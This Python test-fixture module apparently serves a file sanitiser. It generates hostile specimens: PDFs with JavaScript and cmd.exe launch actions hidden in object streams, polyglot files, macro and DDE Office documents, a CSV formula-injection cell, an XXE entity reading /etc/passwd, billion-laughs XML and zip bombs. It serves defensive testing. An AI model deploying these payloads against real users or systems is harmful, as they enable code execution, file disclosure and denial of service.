"""Hostile files: with active content, hidden or not, of two types at once, or that expand without limit."""

from __future__ import annotations

import io
import zipfile
import zlib

from PIL import Image

from tests.given.files import specimens as made

APPEND = b"<html><script>alert(1)</script></html>"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)>>"
LINKED = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A 9 0 R>>]"

ACTING = {
    "a script when it opens": made.pdf_of(catalog=b"/OpenAction" + SCRIPT),
    "a script with its name in numbers": made.pdf_of(catalog=b"/OpenAction<</S/J#61vaScript/J#53(x)>>"),
    "a script behind an annotation": made.pdf_of(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 6 0 R>>", SCRIPT, page=b"/Annots[5 0 R]"
    ),
    "a script packed in a stream of objects": made.pdf_with_hidden(SCRIPT, b"/OpenAction 9 0 R"),
    "a launch packed in a stream of objects": made.pdf_with_hidden(LAUNCH, b"/OpenAction 9 0 R"),
    "a script when a page is shown": made.pdf_of(page=b"/AA<</O" + SCRIPT + b">>"),
    "a program to start": made.pdf_of(page=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]"),
    "an attached program": made.with_attached("a.dat", made.PROGRAM),
    "rich media": made.pdf_of(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]"),
    "a form's script": made.pdf_of(
        made.pdf_stream(zlib.compress(b"<template><script>x</script></template>")),
        catalog=b"/AcroForm<</Fields[]/XFA[(template) 5 0 R]>>",
    ),
    "a form that is sent": made.pdf_of(catalog=b"/OpenAction<</S/SubmitForm/F(http://x)>>"),
    "data that is fetched": made.pdf_of(catalog=b"/OpenAction<</S/ImportData/F(http://x)>>"),
    "a script that no page leads to": made.pdf_of(SCRIPT),
    "a kind that stands elsewhere": made.pdf_of(b"/Launch", catalog=b"/OpenAction<</S 5 0 R/F(cmd.exe)>>"),
}
"""PDFs with active content that qpdf finds."""


def blanks(byte: bytes) -> dict[str, bytes]:
    """Return PDFs that start a program, behind a byte that only PDFium reads as blank: plain and compressed."""
    launch = b"<</S/Launch" + byte + b"/F(cmd.exe)>>"
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A" + launch + b">>]"
    return {
        f"a launch behind {byte.hex()}": made.pdf_of(page=link),
        f"a packed launch behind {byte.hex()}": made.pdf_with_hidden(launch, page=LINKED),
    }


BLANKS = blanks(b"\x80") | blanks(b"\xff")
"""They start a program in PDFium, and passed a tokeniser."""
TWICE = made.pdf_stream(zlib.compress(made.flate_bomb(40)), b"[/FlateDecode/FlateDecode]")
REPEATED = made.pdf_of(
    made.pdf_stream(made.flate_bomb(60), more=b"/Type/ObjStm/N 1/First 4/K[" + b"/ObjStm " * 200 + b"]")
)
"""64 kB, which a tokeniser decompressed two hundred times: over thirty seconds."""
HIDDEN = {
    **BLANKS,
    "half a reference": made.pdf_with_hidden(b"<</S/Launch/F(cmd.exe)/K 1 R>>", page=LINKED),
    "a kind that is said twice": made.pdf_with_hidden(b"<</S/URI/S/Launch/F(cmd.exe)>>", page=LINKED),
    "an object of no table": made.pdf_of().replace(b"xref\n0", b"99 0 obj\n" + SCRIPT + b"\nendobj\nxref\n0"),
    "objects in LZW": made.pdf_with_hidden(LAUNCH, page=LINKED, objects=(b"/LZWDecode", made.lzw, b"")),
    "a table in LZW": made.pdf_with_hidden(LAUNCH, page=LINKED, table=(b"/LZWDecode", made.lzw, b"")),
    "objects of another kind": made.pdf_with_hidden(LAUNCH, page=LINKED).replace(b"/Type/ObjStm", b"/Type/Other_"),
    "a broken stream of objects": made.pdf_with_hidden(LAUNCH, page=LINKED).replace(b"/First", b"}First"),
    "a lost table": made.pdf_with_hidden(LAUNCH, page=LINKED).replace(b"startxref\n", b"startxref\n1"),
    "a name in itself": made.pdf_of(b"5 0 R", page=b"/A<</S 5 0 R>>"),
    "a name a thousand times": REPEATED,
    "a stream packed twice": made.pdf_of(TWICE),
    "a page packed twice": made.pdf_of(TWICE).replace(b"/Contents 4 0 R", b"/Contents 5 0 R"),
    "a page in LZW without end": made.pdf_of(made.pdf_stream(made.lzw_bomb(64), b"/LZWDecode")).replace(
        b"/Contents 4 0 R", b"/Contents 5 0 R"
    ),
    "a page without end": made.pdf_of(made.pdf_stream(made.flate_bomb(257))).replace(
        b"/Contents 4 0 R", b"/Contents 5 0 R"
    ),
    "a page as large as a field": made.pdf_of().replace(b"200 200", b"9e6 9e6"),
    "a page in itself": made.pdf_of().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
    "a page and a PDF": made.PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%" + APPEND + b"\n"),
}
"""PDFs with active content for some reader, or made to slow one: accepted or not, their copies are harmless."""

TWO_AT_ONCE = {
    "a PDF and a page.pdf": made.PDF + APPEND,
    "a PDF and a ZIP.pdf": made.PDF + made.zipped(("x.html", APPEND)),
    "a PNG and a page.png": made.picture("PNG") + APPEND,
    "a JPEG and a ZIP.jpg": made.picture("JPEG") + made.zipped(("x", APPEND)),
    "a sound and a page.mp3": made.sound() + APPEND,
    "a GIF and a script.gif": b"GIF89a/*" + made.picture("GIF")[8:] + b"*/=1;alert(1)",
}
"""Files of two types at once: treated as the type of their beginning."""

ACTIVE_OFFICE = {
    "macros.docx": made.office(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")),
    "macros in a table.xlsx": made.office(("xl/vbaProject.bin", b"\0"), family="xl"),
    "a kind with macros.docx": made.office(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "macros of the older kind.xlsx": made.office(
        types='<Override PartName="/xl/macrosheets/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        family="xl",
    ),
    "an external template.docx": made.office(
        ("word/_rels/settings.xml.rels", made.relations(("attachedTemplate", "http://x/a.dotm", True)))
    ),
    "an external object.docx": made.office(
        ("word/_rels/document.xml.rels", made.relations(("oleObject", "http://x/a", True)))
    ),
    "a control.docx": made.office(("word/activeX/activeX1.xml", b"<x/>")),
    "a program.docx": made.office(("word/media/a.png", made.PROGRAM)),
    "a slide whose click starts a program.pptx": made.office(
        ("ppt/slides/slide1.xml", b'<s><hlinkMouseOver action="ppaction://program"/></s>'), family="ppt"
    ),
    "a table with macros beneath a chart.docx": made.office(
        ("word/embeddings/a.xlsx", made.office(("xl/vbaProject.bin", b"\0"), family="xl"))
    ),
    "Basic.odt": made.opendocument(("Basic/Standard/Module1.xml", b"<x/>")),
    "a script in Python.odt": made.opendocument(("Scripts/python/a.py", b"import os")),
    "a listener.odt": made.opendocument(
        body=b'<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>'
    ),
    "a slide that starts a program.odp": made.opendocument(
        kind="presentation", body=b'<presentation:event-listener presentation:action="execute"/>'
    ),
    "a link that runs a macro.odt": made.opendocument(body=b'<text:a xlink:href=" Macro:///A.B.C"/>'),
}
"""Office files with active content, as their parts show."""

FETCHING = {
    "an external picture.docx": made.office(
        ("word/_rels/document.xml.rels", made.relations(("image", "http://x/a.png", True)))
    ),
    "a field that starts a program.docx": made.office(
        body=b"<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r>"
    ),
    "a page in a cell.xlsx": made.office(
        ("xl/worksheets/sheet1.xml", b'<s><c><f>_xlfn.WEBSERVICE("https://example.org")</f><v>1</v></c></s>'),
        family="xl",
    ),
    "a picture from elsewhere.odt": made.opendocument(body=b'<draw:image xlink:href="http://x/a.png"/>'),
    "a program in a cell.csv": b"m;n\r\nA;12\r\n=cmd|'/C calc'!A0;1\r\n",
    "markup in a cell.csv": b"m;n\r\n<script>alert(1)</script>;1\r\n",
    "a text that turns round.txt": "abc\u202egpj.exe".encode(),
}
"""Files whose formulas only another program would fetch or run: accepted, and read as text."""

DOCTYPE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'


def shared_bytes() -> bytes:
    """Return an archive with many entries that share the same bytes."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("a.txt", b"a" * 50)
        (entry,) = archive.filelist
        for letter in "bcdefgh":
            other = zipfile.ZipInfo(f"{letter}.txt")
            other.header_offset, other.CRC = entry.header_offset, entry.CRC
            other.file_size = other.compress_size = 50
            archive.filelist.append(other)
    return target.getvalue()


def lying(content: bytes, said: int) -> bytes:
    """Return the same archive, whose directory announces this many bytes."""
    at = content.index(b"PK\x01\x02") + 24
    return content[:at] + said.to_bytes(4, "little") + content[at + 4 :]


BOMBS = {
    "large once unpacked": made.zipped(("a.txt", bytes(20 * 1024**2))),
    "said to be 4 GB": lying(made.zipped(("a.txt", b"a" * 42_000)), 0xFFFFFFF0),
    "of many entries": made.zipped(*((f"{number}.txt", b"x") for number in range(10_001)), method=zipfile.ZIP_STORED),
    "with shared bytes": shared_bytes(),
    "within another": made.zipped(("a.zip", made.zipped(("b.txt", b"b")))),
    "within an office file": made.office(("word/media/a.zip", made.zipped(("b.txt", b"b")))),
    "within an OpenDocument": made.opendocument(("Pictures/a.png", made.zipped(("b.txt", b"b")))),
    "office files in office files": made.office(
        (
            "word/embeddings/a.xlsx",
            made.office(("xl/embeddings/b.docx", made.office(("word/embeddings/c.docx", made.office())))),
        )
    ),
}
"""Archives that expand without limit."""


def many_frames() -> bytes:
    """Return a GIF with more frames than are shown."""
    target = io.BytesIO()
    first, *others = [Image.new("RGB", (20, 10), (2 * number, 90, 90)) for number in range(120)]
    first.save(target, "GIF", save_all=True, append_images=others, disposal=2)
    return target.getvalue()


def named_as(name: str, content: bytes) -> tuple[str, bytes]:
    """Return a file with a name for it."""
    return (name if "." in name else f"{name}.pdf"), content


def each() -> dict[str, bytes]:
    """Yield all these files, by names whose ends match their types."""
    archives = {
        f"{name}.{'odt' if 'OpenD' in name else 'docx' if 'office' in name else 'zip'}": content
        for name, content in BOMBS.items()
    }
    entities = {
        "entities.odt": made.opendocument(prolog=LAUGHS),
        "an entity.docx": made.office(("word/a.xml", DOCTYPE + b"<x/>")),
    }
    frames = {"frames.gif": many_frames(), "points.png": made.png_that_says(60_000, 60_000)}
    whole = ACTING | HIDDEN | TWO_AT_ONCE | ACTIVE_OFFICE | FETCHING | archives | entities | frames
    return dict(named_as(name, content) for name, content in whole.items())
